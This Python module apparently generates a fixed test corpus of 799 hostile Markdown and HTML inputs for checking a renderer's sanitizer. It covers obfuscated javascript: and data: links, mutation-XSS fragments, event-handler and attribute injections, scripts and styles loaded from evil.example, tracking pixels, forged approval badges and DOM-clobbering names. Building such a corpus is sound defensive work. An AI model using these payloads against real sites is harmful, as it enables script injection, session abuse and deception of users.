"""799 hostile inputs, built and not collected: ways to bring a script, a remote picture, a false badge or a
shadowing name into a page through controlled text.

32 schemes × 6 forms of a link, 113 pieces of HTML × 4 places, 19 attribute lists × 7 carriers, 22 specials.
Every script that would run calls ``hit()``, so that a browser can count.
"""

from __future__ import annotations

from collections.abc import Iterator

SCHEMES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "\tjavascript:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "java\rscript:hit()",
    "java\x00script:hit()",
    "\x01javascript:hit()",
    "javascript&colon;hit()",
    "javascript&#58;hit()",
    "javascript&#x3a;hit()",
    "&#106;avascript:hit()",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:hit()",
    "java&Tab;script:hit()",
    "java&NewLine;script:hit()",
    "javascript%3Ahit()",
    "javascript://x.vn/%0Ahit()",
    "javascript:hit`1`",
    "javascript:eval(atob('aGl0KCk='))",
    "vbscript:hit()",
    "livescript:hit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
    "data:text/javascript,hit()",
    "blob:http://x.vn/1",
    "file:///etc/passwd",
    "view-source:javascript:hit()",
    "feed:javascript:hit()",
    "//evil.example/x",
    "/\\evil.example/x",
)
LINK_FORMS = (
    "[nhấn]({})",
    "[nhấn](<{}>)",
    "<{}>",
    "[nhấn][r]\n\n[r]: {}",
    "![ảnh]({})",
    '<a href="{}">nhấn</a>',
)

HANDLERS = ("onclick", "onmouseover", "onfocus", "onerror", "onload", "ontoggle", "onpointerenter", "onbegin")
CARRIERS = ("a", "b", "p", "table", "h2", "code")
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=hit()></style></annotation-xml>",
    "<svg><foreignObject><p><style><img src=x onerror=hit()></style></p></foreignObject></svg>",
    "<table><td><svg><desc><table><script>hit()</script></table></desc></svg></td></table>",
    "<select><template><style><!--</style><img src=x onerror=hit()>--></style></template></select>",
    "<textarea></textarea><img src=x onerror=hit()></textarea>",
    "<title><img src=x onerror=hit()></title>",
    '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>',
    "<iframe></iframe><img src=x onerror=hit()></iframe>",
    "<plaintext><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<!-- --!><img src=x onerror=hit()> -->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version=1?><img src=x onerror=hit()>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit()>'>]>&y;",
)
ACTIVE = (
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script>hit()",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:,hit()></script></svg>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror='hit()'//>",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img src=x\nonerror=hit()>",
    "<img src=x\x0conerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<body onload=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<marquee onstart=hit()>x</marquee>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit() form=f>x</button>",
    "<isindex type=submit formaction=javascript:hit()>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>x</text></a></svg>",
    "<math href=javascript:hit()>x</math>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=//evil.example/>",
)
PASSIVE = (
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<p class='badge text-bg-success'>ĐÃ PHÊ DUYỆT</p>",
    "<span class=status-effective>Đang có hiệu lực</span>",
    "<div id=content>x</div>",
    "<a name=csrf_token>x</a>",
    "<p id=__proto__>x</p>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div data-controller=editor>x</div>",
    "<img src=http://evil.example/p.gif>",
    "<img src=//evil.example/p.gif>",
    "<img srcset='//evil.example/p.gif 1x'>",
    "<video poster=//evil.example/p.gif></video>",
    "<input name=csrf_token value=x>",
    "<h1>Tên khác</h1>",
    "<table background=//evil.example/p.gif><tr><td>x</td></tr></table>",
    "<td colspan=1000000>x</td>",
    "<img src=/attachments/../sign-out>",
    "<a href=x target=_blank ping=//evil.example/>x</a>",
    "<dialog open>x</dialog>",
    "<p contenteditable autofocus tabindex=1 accesskey=a>x</p>",
)
PLACES = ("{}", "Câu có {} ở giữa.", "- mục {}\n", "| A | B |\n|---|---|\n| {} | x |\n")

ATTRIBUTE_LISTS = (
    "onclick=hit()",
    "onmouseover='hit()'",
    'onfocus="hit()" tabindex=0',
    "href=javascript:hit()",
    "src=x onerror=hit()",
    "style='color:red'",
    ".badge",
    ".btn .btn-danger",
    "#content",
    "#csrf_token",
    "id=main",
    "class='status effective'",
    "data-action=delete",
    "hx-get=/sign-out",
    "name=q",
    "target=_blank",
    "srcdoc='<script>parent.hit()</script>'",
    "formaction=javascript:hit()",
    "background=//evil.example/p.gif",
)
ATTRIBUTE_CARRIERS = (
    "## Đề mục {{: {} }}",
    "Đoạn văn\n{{: {} }}",
    "[nhấn](/x){{: {} }}",
    "**đậm**{{: {} }}",
    "![ảnh](/x.png){{: {} }}",
    "- mục {{: {} }}",
    "`mã`{{: {} }}",
)

SPECIALS = (
    "\x02klzzwxh:0001\x03",
    "\x02wzxhzdk:0\x03<script>hit()</script>",
    "STXklzzwxh:0ETX",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "\\<script>hit()\\</script>",
    "`<script>hit()</script>`",
    "    <script>hit()</script>",
    "```html\n<script>hit()</script>\n```",
    '```" onmouseover=hit()\nx\n```',
    "```{.badge #content onclick=hit()}\nx\n```",
    '!!! note" onclick="hit()\n    x',
    '!!! badge success "ĐÃ PHÊ DUYỆT"\n    x',
    '!!! note "<img src=x onerror=hit()>"\n    x',
    "x[^<img src=x onerror=hit()>]\n\n[^<img src=x onerror=hit()>]: y",
    "x[^1]\n\n[^1]: <img src=x onerror=hit()>",
    '*[X]: " onmouseover="hit()\n\nX',
    "## <img src=x onerror=hit()>\n\n[TOC]",
    '[x](/a "\\" onmouseover=hit() x=\\"")',
    '![" onerror="hit()](x)',
    "<a@b.vn?onclick=hit()>",
    "\u202e[a](/&#8203;/evil.example/x)&#1;&#x202e;",
)


def fragments() -> Iterator[str]:
    """113 pieces of HTML."""
    yield from MUTATIONS
    yield from ACTIVE
    yield from PASSIVE
    pairs = ((carrier, handler) for carrier in CARRIERS for handler in HANDLERS)
    for carrier, handler in list(pairs)[: 113 - len(MUTATIONS) - len(ACTIVE) - len(PASSIVE)]:
        yield f"<{carrier} {handler}=hit()>x</{carrier}>"


def corpus() -> list[str]:
    """All inputs, always the same and in the same order."""
    links = [form.format(scheme) for scheme in SCHEMES for form in LINK_FORMS]
    pieces = [place.format(piece) for piece in fragments() for place in PLACES]
    lists = [carrier.format(tricks) for tricks in ATTRIBUTE_LISTS for carrier in ATTRIBUTE_CARRIERS]
    return links + pieces + lists + list(SPECIALS)
